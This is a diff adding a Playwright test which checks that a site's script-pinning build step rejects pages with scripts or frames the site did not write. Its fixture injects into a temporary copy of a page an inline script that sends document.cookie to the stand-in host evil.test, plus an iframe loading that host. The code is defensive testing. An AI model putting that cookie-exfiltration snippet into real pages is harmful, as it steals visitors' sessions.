@@ -1,5 +1,7 @@
 /** The response headers and the Content-Security-Policy, as a reader's browser meets them. */
-import { readdirSync, readFileSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { expect, test } from '@playwright/test';
 import { pageTypes } from './content';
@@ -44,6 +46,28 @@ test('an inline script the page did not ship is refused', async ({ page }) => {
   });
   expect(ran).toBe(false);
   await expect.poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations.join(' '))).toContain('script-src');
+});
+
+test('the script-pinning step fails the build on a page holding a script or frame the site did not write, naming it', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'pin-'));
+  try {
+    for (const page of ['index.html', 'about.html', 'search.html']) cpSync(join('out', page), join(dir, page));
+    const clean = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/pin-inline-scripts.ts', dir], { encoding: 'utf8' });
+    expect(clean.status, clean.stderr).toBe(0);
+
+    const about = readFileSync(join(dir, 'about.html'), 'utf8');
+    writeFileSync(join(dir, 'about.html'), about.replace('</main>', '<script>fetch("https://evil.test/?c="+document.cookie)</script><iframe src="https://evil.test"></iframe></main>'));
+    const home = readFileSync(join(dir, 'index.html'), 'utf8');
+    const refused = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/pin-inline-scripts.ts', dir], { encoding: 'utf8' });
+    expect(refused.status).toBe(1);
+    expect(refused.stderr).toContain(`${join(dir, 'about.html')}: an inline script the site did not write: "fetch(\\"https://evil.test/?c=\\"+document.cookie)"`);
+    expect(refused.stderr).toContain(`${join(dir, 'about.html')}: <iframe> loading "https://evil.test"`);
+    expect(refused.stderr).not.toContain('index.html');
+    // Nothing is pinned when anything is refused.
+    expect(readFileSync(join(dir, 'index.html'), 'utf8')).toBe(home);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
 });
 
 test('the site cannot be framed by another', async ({ request }) => {
